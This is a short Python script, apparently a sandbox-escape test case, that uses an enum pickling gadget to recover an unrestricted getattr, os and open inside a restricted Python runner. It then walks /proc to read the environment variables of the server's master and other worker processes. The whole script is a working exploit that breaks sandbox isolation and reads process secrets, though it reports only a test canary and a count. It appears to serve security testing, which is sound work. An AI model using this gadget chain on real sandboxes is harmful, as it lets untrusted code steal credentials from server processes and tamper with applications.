# ruff: noqa - a hostile script, kept as written
# threat: 5 read the app's secrets or change the app
# technique: the enum getattr gadget reads /proc/<pid>/environ of the master (the worker's parent) and of every other worker (the master's other children)
# why: the child escapes the Python layers as the workers' user (root): every process of the server is open to it
# escapes: runner a75ee23, wide allowlist
import enum
import re

real_getattr = enum.pickle_by_enum_name(re.IGNORECASE, 2)[0]
module_globals = real_getattr(enum.pickle_by_enum_name, "__globals__")
os = real_getattr(real_getattr(module_globals["sys"], "modules")["os"], "__dict__")
real_open = module_globals["__builtins__"]["open"]


def read(path):
    handle = real_open(path, "rb")
    try:
        return real_getattr(handle, "read")()
    finally:
        real_getattr(handle, "close")()


def parent_of(pid):
    try:
        status = read("/proc/%d/status" % pid).decode()
    except Exception:
        return None
    for line in status.splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])


def secrets_of(pid):
    """Only the test's canary and a count: the rest of an environment is nobody's business."""
    variables = read("/proc/%d/environ" % pid).split(b"\0")
    found = [v.decode() for v in variables if v.startswith(b"HOST_TEST_DB_PASSWORD=")]
    return "%d: %d variables %s" % (pid, len(variables), found)


worker = parent_of(os["getppid"]())
master = parent_of(worker)
others = [int(p) for p in os["listdir"]("/proc")
          if p.isdigit() and int(p) != worker and parent_of(int(p)) == master]
result = "ESCAPED master %s; other workers %s" % (
    secrets_of(master), [secrets_of(p) for p in others])
